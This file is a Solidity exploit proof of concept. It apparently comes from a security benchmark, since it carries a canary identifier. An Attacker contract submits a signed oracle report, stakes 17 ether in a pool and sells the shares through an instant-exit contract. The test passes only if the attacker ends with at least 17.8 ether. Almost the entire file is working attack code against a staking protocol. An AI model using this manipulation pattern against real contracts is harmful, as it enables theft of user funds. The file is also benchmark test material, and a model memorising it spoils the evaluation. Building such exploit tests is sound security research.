// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    constructor() payable {}

    function run(
        StakeToken token,
        StakePool pool,
        InstantExit exit,
        ReportOracle oracle,
        IReports.Report calldata report,
        bytes[] calldata signatures
    ) external {
        oracle.submit(report, signatures);
        uint256 shares = pool.stake{value: 17 ether}(address(this));
        token.approve(address(exit), shares);
        exit.sell(shares, 0);
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;
    bytes[] private signatures;

    function _start() internal override {
        other = new Attacker{value: 17 ether}();
        signatures = _signed(_report(3, 0, 25 ether));
    }

    function exploit() public {
        other.run(token, pool, exit, oracle, _report(3, 0, 25 ether), signatures);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 17.8 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(exit);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
